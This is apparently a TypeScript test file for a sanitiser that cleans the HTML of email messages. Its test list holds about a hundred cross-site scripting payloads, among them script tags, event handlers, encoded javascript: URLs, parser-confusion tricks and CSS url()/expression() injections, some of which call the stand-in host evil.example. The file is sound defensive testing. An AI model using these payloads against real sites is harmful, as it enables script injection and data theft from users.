import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { sanitizeBody } from './index';

const clean = (html: string, allowRemote = false, inline: Record<string, string> = {}) => sanitizeBody(html, { inline, allowRemote });

/** Attacks by way of tags, attributes, addresses, styles, and of parsers that disagree. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnError = "alert(1)">',
  '<img/src="x"/onerror="alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img src="javascript:alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(2)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://example.com/1">x</a>',
  '<a href="/admin/plugins">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="https://ok.example" target="_self" rel="opener" onclick="alert(1)" ping="https://evil.example">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x.class"></applet>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</option></select>',
  '<video src="https://evil.example/x" onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>x</body>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="prefetch" href="https://evil.example/x">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="w\\69 dth:e\\78pression(alert(1))">x</div>',
  '<div style="background-image:u\\72l(https://evil.example/x)">x</div>',
  '<div style="background:/**/url(https://evil.example/x)">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#xss)">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
  '<div style="position/**/:/**/fixed">x</div>',
  '<div style="color:red;}body{position:fixed">x</div>',
  '<div style="background:url(https://evil.example/x;color:red">x</div>',
  '<div style="font-family:\'x\';content:url(https://evil.example/y)">x</div>',
  '<div style="background-image:image-set(\'https://evil.example/x\' 1x)">x</div>',
  '<div style="background:-webkit-cross-fade(url(https://evil.example/x), url(https://evil.example/y), 50%)">x</div>',
  '<table background="javascript:alert(1)"><tr><td background="https://evil.example/x">x</td></tr></table>',
  '<td background="https://evil.example/x\');position:fixed;(\'">x</td>',
  '<img data-part="9" src=x>',
  '<a id="document" name="location">x</a>',
  '<p class="modal" id=root>x</p>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<a href="https://ok.example"<img src=x onerror=alert(1)>>x</a>',
  '<a\u0000href="javascript:alert(1)">x</a>',
  '<img src="x\u0000" onerror\u0000="alert(1)">',
  '<div __proto__="x" constructor="y" onclick="alert(1)">x</div>',
  '<p title="&quot;onmouseover=alert(1) x=&quot;">x</p>',
  '<p align="center&quot; onmouseover=&quot;alert(1)">x</p>',
];

const TAGS = /^(?:a|abbr|acronym|address|article|aside|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|dfn|dir|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|nav|ol|p|pre|q|s|samp|section|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|tt|u|ul|var|wbr)$/;
const NEVER = /url\s*\(|expression|position|@import|behaviou?r|binding|z-index|content\s*:|image-set|cross-fade|\\|javascript|vbscript/i;

/** What a browser would be told: every tag and attribute of the result, judged by name and value. */
function dangersIn(html: string, remote = false): string[] {
  const dangers: string[] = [];
  new Parser({
    onopentag(name, attributes) {
      if (!TAGS.test(name)) dangers.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (/^on|^(?:id|class|name|formaction|action|ping|srcdoc|xlink:href|data-part)$/.test(attribute)) dangers.push(attribute);
        if (attribute === 'href' && !/^(?:https?:\/\/|mailto:|tel:)/.test(value)) dangers.push(`href ${value}`);
        if ((attribute === 'src' || attribute === 'srcset') && !/^data:image\/(?:png|gif|jpe?g|webp);base64,/.test(value) && !(remote && /^https?:\/\/[\w.]+\//.test(value))) dangers.push(`${attribute} ${value}`);
        const style = remote ? value.replace(/url\("https?:\/\/[^"\s)]*"\)/g, '') : value;
        if (attribute === 'style' && NEVER.test(style)) dangers.push(`style ${value}`);
      }
    },
    oncomment: () => dangers.push('comment'),
    onprocessinginstruction: () => dangers.push('instruction'),
  }).end(html);
  return dangers;
}

describe('sanitising the HTML of a message', () => {
  it.each(ATTACKS)('leaves nothing dangerous of %j', (attack) => {
    const { html } = clean(`<p>before</p>${attack}`);
    expect(dangersIn(html)).toEqual([]);
    expect(html).toContain('before');
  });

  it('stays clean when it is sanitised again', () => {
    for (const attack of ATTACKS) {
      const once = clean(attack).html;
      expect(clean(once).html).toBe(once);
    }
  });

  it('keeps the layout that mail is made of', () => {
    const html =
      '<table width="600" cellpadding="0" bgcolor="#ffffff" align="center"><tr><td style="padding: 4px; font-family: Arial, sans-serif; color: rgb(1, 2, 3)" valign="top"><font color="red" face="Arial" size="2">Hi</font></td></tr></table>';
    const result = clean(html).html;
    expect(result).toContain('width="600"');
    expect(result).toContain('style="padding: 4px; font-family: Arial, sans-serif; color: rgb(1, 2, 3)"');
    expect(result).toContain('<font color="red" face="Arial" size="2">Hi</font>');
  });

  it('keeps the colours of the body element', () => {
    expect(clean('<html><body bgcolor="#eeeeee" style="color: #111">x</body></html>').html).toBe('<div bgcolor="#eeeeee" style="color: #111">x</div>');
  });

  it('opens links outside, without opener, referrer or weight', () => {
    expect(clean('<a href="https://example.com/a?b=1&amp;c=2">x</a>').html).toBe(
      '<a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
    expect(clean('<a href="mailto:a@example.com">m</a> <a href="tel:+4930123">t</a>').html).toMatch(/href="mailto:a@example.com".*href="tel:\+4930123"/);
  });

  it('takes out and counts remote images, backgrounds, source sets and style addresses', () => {
    const html =
      '<img src="https://t.example/1.png" srcset="https://t.example/2.png 1x, https://t.example/3.png 2x" alt="logo"><table background="http://t.example/4.png"><tr><td style="background: #fff url(https://t.example/5.png) no-repeat">x</td></tr></table><img src="//t.example/6.png">';
    const { html: result, blockedRemote } = clean(html);
    expect(result).not.toContain('t.example');
    expect(result).toContain('alt="logo"');
    expect(result).toContain('background: #fff');
    expect(blockedRemote).toBe(6);
  });

  it('leaves remote images in when they were asked for', () => {
    const html = '<img src="https://t.example/1.png" srcset="https://t.example/2.png 2x"><div style="background-image: url(https://t.example/5.png)">x</div><td background="https://t.example/4.png">y</td>';
    const { html: result, blockedRemote } = clean(html, true);
    expect(result).toContain('src="https://t.example/1.png"');
    expect(result).toContain('srcset="https://t.example/2.png 2x"');
    expect(result).toContain('url(&quot;https://t.example/5.png&quot;)');
    expect(result).toContain('url(&quot;https://t.example/4.png&quot;)');
    expect(blockedRemote).toBe(0);
  });

  it('asks for them over https only, whatever the sender wrote: nothing else gets past the policy of the panel', () => {
    const html = '<img src="http://t.example/1.png" srcset="HTTP://t.example/2.png 2x"><div style="background: url(http://t.example/5.png)">x</div><td background="http://t.example:80/4.png">y</td><a href="http://t.example/page">z</a>';
    const { html: result, blockedRemote } = clean(html, true);
    for (const address of ['src="https://t.example/1.png"', 'srcset="https://t.example/2.png 2x"', 'url(&quot;https://t.example/5.png&quot;)', 'url(&quot;https://t.example/4.png&quot;)']) expect(result).toContain(address);
    expect(result).toContain('href="http://t.example/page"');
    expect(blockedRemote).toBe(0);
  });

  it('never loads anything but http and https, even when remote content was asked for', () => {
    for (const attack of ATTACKS) {
      expect(dangersIn(clean(attack, true).html, true)).toEqual([]);
    }
  });

  it('replaces images the message brings along by their part number', () => {
    const { html, blockedRemote } = clean('<img src="cid:logo@x" alt="Logo"><img src="cid:a%20b"><img src="cid:unknown"><img src="cid:constructor">', false, { 'logo@x': '1.2', 'a b': '1.3' });
    expect(html).toBe('<img alt="Logo" data-part="1.2" /><img data-part="1.3" /><img /><img />');
    expect(blockedRemote).toBe(0);
  });

  it('keeps small images that are written into the HTML', () => {
    expect(clean('<img src="data:image/png;base64,iVBORw0KGgo=">').html).toBe('<img src="data:image/png;base64,iVBORw0KGgo=" />');
  });

  it('keeps the text of 5,000 nested elements', () => {
    const { html } = clean(`${'<div>'.repeat(5000)}deep${'</div>'.repeat(5000)}<p>after</p>`);
    expect(html).toContain('deep');
    expect(html).toContain('<p>after</p>');
    expect(html.split('<div>').length).toBeLessThan(200);
  });

  it('reads hostile input in one pass', () => {
    const n = 100_000;
    for (const piece of ['<b>', '</x>', '<b></x>', '<p>', '<a href="', '<!--', '<svg>', '&lt', '<div style="', '/*', 'url(', '<table><tr><td>', '<b <b ']) {
      expect(clean(piece.repeat(n) + 'end').html.length).toBeLessThan(n * 60);
    }
    expect(clean(`<p style="${'/*'.repeat(n)}${'url('.repeat(n)}">x</p>`).html).toContain('x');
    expect(clean(`<p ${'a '.repeat(n)}>x</p>`).html).toContain('x');
    expect(clean(`<img srcset="${'a, '.repeat(n)}">`).html).toContain('<img');
  });
});

describe('text in elements that are not shown', () => {
  it.each([
    ['<p>one</p><svg>two <b>three', '<p>one</p>two <b>three</b>'],
    ['<plaintext>one <b>two</b>', 'one'],
    ['<object data="https://evil.example/x">instead <img src="https://evil.example/y"></object>', 'instead <img />'],
    ['<object><param name="movie" value="x"><embed src="x">instead</object>', 'instead'],
    ['<math><mi>x</mi></math>', 'x'],
    ['<applet>instead</applet>', 'instead'],
  ])('stays readable: %s', (html, expected) => {
    expect(clean(html).html).toContain(expected);
  });

  it('stays away where it is code, a title or a fallback for old programs', () => {
    expect(clean('<svg><script>1</script><style>2</style><title>3</title></svg><noframes>4</noframes>').html).toBe('');
  });
});
